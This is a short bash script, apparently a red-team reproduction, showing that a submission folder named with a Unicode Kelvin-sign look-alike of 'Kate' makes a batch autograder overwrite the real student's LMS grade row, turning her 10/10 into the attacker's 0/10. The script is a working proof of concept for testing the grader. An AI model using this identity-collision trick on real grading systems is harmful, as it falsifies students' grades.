#!/bin/bash
# Round 24: Kate.zip and bob graded (row "Kate" = 10/10); a look-alike folder "\u212aate" added later, batch run again on
# the same folder: the row "Kate" (the LMS id) is now the attacker's 0/10; the real Kate is a new row "Kate.zip".
# usage: kelvin_regrade.sh   (as root, from /work/redteam24, venv active)
set -e
W=/work/redteam24/attacks/r24
O=/tmp/rt24-k5; rm -rf $O; K=$(printf '\u212aate')
mkdir -p $O/src/student $O/subs/bob/student
cp $W/honest_gelu.py $O/src/student/gelu.py
(cd $O/src && python -c "import zipfile; z = zipfile.ZipFile('../subs/Kate.zip', 'w'); z.write('student/gelu.py'); z.close()")
cp $W/honest_gelu.py $O/subs/bob/student/gelu.py
echo "== run 1"; python -m grader batch $O/subs --jobs 1 --stage gelu --db $O/gb.sqlite --lms $O/lms1.csv; cat $O/lms1.csv
mkdir -p "$O/subs/$K/student"
printf 'import numpy as np\ndef run_gelu(x):\n    return np.zeros_like(x)\n' > "$O/subs/$K/student/gelu.py"
echo "== run 2"; python -m grader batch $O/subs --jobs 1 --stage gelu --db $O/gb.sqlite --lms $O/lms2.csv --feedback $O/fb
cat $O/lms2.csv; ls $O/fb
